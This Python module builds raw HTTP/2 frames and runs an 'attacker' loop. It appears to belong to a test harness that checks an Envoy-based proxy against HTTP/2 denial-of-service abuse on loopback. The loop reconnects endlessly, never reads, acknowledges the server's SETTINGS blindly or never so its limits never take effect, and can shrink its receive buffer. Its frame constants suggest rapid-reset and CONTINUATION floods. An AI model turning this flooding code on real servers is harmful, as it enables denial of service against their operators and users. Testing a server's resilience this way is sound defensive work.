"""HTTP/2 written frame by frame (RFC 9113), for attacks no well-behaved client library sends, and
the loop that sends them from one connection."""

import socket
import struct
import time
from collections.abc import Callable, Iterator

from gcd_stack.envoy_config import LOOPBACK

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0x1, 0x3, 0x4, 0x8, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
# The largest frame a peer must accept before SETTINGS say otherwise (RFC 9113).
FRAME_BYTES = 16384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def attacker(
    port: int,
    writes: Callable[[int], Iterator[bytes]],
    until: float,
    acknowledges: bool = True,
    receive_buffer: int = 0,
) -> None:
    """One connection sending writes(port) until the deadline, reconnecting when the server closes
    it; it never reads. It acknowledges the server's SETTINGS blindly, or never, so that the
    server's limits never take effect; receive_buffer, if given, is its socket's, so that little of
    what the server sends fits."""
    while time.monotonic() < until:
        try:
            with socket.socket() as connection:
                if receive_buffer:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
                connection.settimeout(2)
                connection.connect((LOOPBACK, port))
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + (frame(SETTINGS, ACK, 0) if acknowledges else b""))
                for data in writes(port):
                    if time.monotonic() >= until:
                        return
                    connection.sendall(data)
        except OSError:
            time.sleep(0.01)
